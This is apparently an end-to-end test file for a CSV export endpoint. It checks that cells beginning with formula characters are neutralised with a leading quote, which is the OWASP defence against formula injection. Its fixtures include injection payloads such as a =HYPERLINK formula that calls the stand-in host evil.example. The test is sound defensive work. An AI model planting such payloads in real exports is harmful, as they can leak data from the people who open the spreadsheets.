import { randomUUID } from 'node:crypto';
import { http, registerClient, startApp, type TestApp } from './helpers/app';
import { ensurePartitions, withDb } from './helpers/db';

/** CSV export: cells a spreadsheet would run as a formula are neutralised with a leading ' (OWASP). */
describe('CSV export formula injection (e2e)', () => {
  let t: TestApp;
  let token: string;
  const tag = randomUUID().slice(0, 8);
  const rows = [
    { session: `=HYPERLINK("http://evil.example/?${tag}","click")`, category: `=cat-${tag}`, name: '=1+2' },
    { session: `+s-${tag}`, category: `+cat-${tag}`, name: '@SUM(A1:A2)' },
    { session: `-s-${tag}`, category: `-cat-${tag}`, name: '\tname' },
    { session: `@s-${tag}`, category: `@cat-${tag}`, name: '\rname' },
    { session: `plain-${tag}`, category: `plain-${tag}`, name: 'a=b' },
  ];

  beforeAll(async () => {
    t = await startApp();
    token = (await registerClient(t.url, ['events:read'], 'csv analyst')).token;
    await withDb(async (db) => {
      await ensurePartitions(db, '2021-09-01', '2021-09-09');
      for (const [i, r] of rows.entries())
        await db.query(
          `INSERT INTO events (id, session_id, category, name, data, timestamp, received_at, client_id)
           VALUES (gen_random_uuid(), $1, $2, $3, $4::jsonb, $5, now(), $6)`,
          [
            r.session,
            r.category,
            r.name,
            JSON.stringify({ label: '=HYPERLINK("http://evil.example")' }),
            `2021-09-0${i + 1}T00:00:00Z`,
            `=client-${tag}`,
          ],
        );
    });
  });
  afterAll(() => t.close());

  it('prefixes every text cell starting with = + - @ tab or CR with a quote; other cells unchanged', async () => {
    const res = await http<string>(
      `${t.url}/v1/events/export?format=csv&client_id=${encodeURIComponent(`=client-${tag}`)}`,
      { token },
    );
    expect(res.status).toBe(200);
    const csv = res.body;
    for (const r of rows.slice(0, 4)) {
      expect(csv).toContain(`,'${r.category},`);
      expect(csv).not.toMatch(new RegExp(`(^|[,\\n])\\${r.category[0]}cat-${tag}`));
    }
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?${tag}"",""click"")",`);
    expect(csv).toContain(",'=1+2,");
    expect(csv).toContain(",'@SUM(A1:A2),");
    expect(csv).toContain(`,"'\rname",`);
    expect(csv).toContain(",'\tname,");
    expect(csv).toContain(`,'=client-${tag},`);
    // Not a formula: left as sent.
    expect(csv).toContain(`,plain-${tag},plain-${tag},a=b,`);
    // The data column is JSON: it starts with "{", which no spreadsheet runs, so it is left intact.
    expect(csv).toContain('"{""label"": ""=HYPERLINK(\\""http://evil.example\\"")""}"');
    // Every cell of every line: none starts with a formula character.
    for (const line of csv.split('\r\n').filter((l) => l.includes(tag)))
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t]/);
  });
});
